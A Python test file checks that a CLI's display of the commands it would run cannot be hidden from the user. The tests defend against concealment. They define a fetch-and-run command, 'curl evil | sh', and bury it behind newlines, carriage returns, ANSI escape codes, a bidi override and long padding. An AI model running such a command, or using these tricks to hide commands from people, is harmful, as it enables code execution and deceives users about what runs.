"""The commands that `reproduce` would run are all told of, whatever is in them."""

from __future__ import annotations

import re

import pytest
from rich.console import Console

from mlflow_dvc.cli.render.reproduce_plan import clip, print_commands

EVIL = "curl evil | sh"


def shown(commands: list[str], width: int = 80) -> list[str]:
    """The lines of a terminal of that width."""
    console = Console(width=width, force_terminal=True, color_system=None, highlight=False)
    with console.capture() as captured:
        print_commands(console, commands, width)
    return captured.get().rstrip("\n").split("\n")


def test_numbered():
    """Each command has a number and a line."""
    lines = [line.strip() for line in shown(["python a.py", "python b.py"])]
    assert lines == ["1  python a.py", "2  python b.py"]


@pytest.mark.parametrize(
    "command",
    [
        "python a.py" + "\n" * 80 + EVIL,
        "python a.py" + "\r" + " " * 11 + EVIL,
        "python a.py" + " " * 5000 + EVIL,
        "python a.py \x1b[2K\x1b[1A" + EVIL,
        EVIL + "\n" * 5000 + "python a.py",
        "python \u202e" + "x" * 3000 + EVIL,
        "データ" * 4000 + EVIL,
        "e" + "\u0301" * 5000 + EVIL,
    ],
    ids=["newlines", "return", "spaces", "escapes", "end", "bidi", "wide", "marks"],
)
@pytest.mark.parametrize("width", [40, 80, 100])
def test_nothing_is_pushed_off(command: str, width: int):
    """The beginning and the end of a command are on the screen, and what is left out is counted."""
    lines = shown([command], width)
    assert len(lines) <= 20
    assert EVIL in "".join(line.strip() for line in lines) or EVIL.replace(" ", "") in "".join(
        "".join(lines).split()
    )
    assert all(char.isprintable() for line in lines for char in line)


def test_many_commands():
    """Of many the first and the last are there, and how many are not."""
    lines = shown([f"echo {number} " + "x" * 500 for number in range(1000)])
    text = "\n".join(lines)
    assert len(lines) <= 20
    assert re.search(r"^ +1  echo 0 ", text, re.MULTILINE)
    assert re.search(r"^ +1000  echo 999 ", text, re.MULTILINE)
    assert "992 commands left out" in text


def test_no_command():
    """A stage without a command shows none."""
    assert shown([]) == [""]


@pytest.mark.parametrize("length", [1, 79, 80, 81, 200, 10_000])
def test_clip(length: int):
    """What fits stays; of the rest the left out characters are counted exactly."""
    text = "".join(chr(97 + number % 26) for number in range(length))
    found = clip(text, 80)
    assert len(found) <= 80
    match = re.fullmatch(r"(.*) \.\.\. ([\d,]+) characters left out \.\.\. (.*)", found)
    if length <= 80:
        assert found == text
        return
    assert match
    begin, count, end = match[1], int(match[2].replace(",", "")), match[3]
    assert text.startswith(begin)
    assert text.endswith(end)
    assert len(begin) + count + len(end) == length


def test_markup():
    """What looks like markup of a terminal's library is shown as it is."""
    (line,) = shown(["echo [bold]x[/bold] [link=http://x]y\\"])
    assert line.strip() == "1  echo [bold]x[/bold] [link=http://x]y\\"
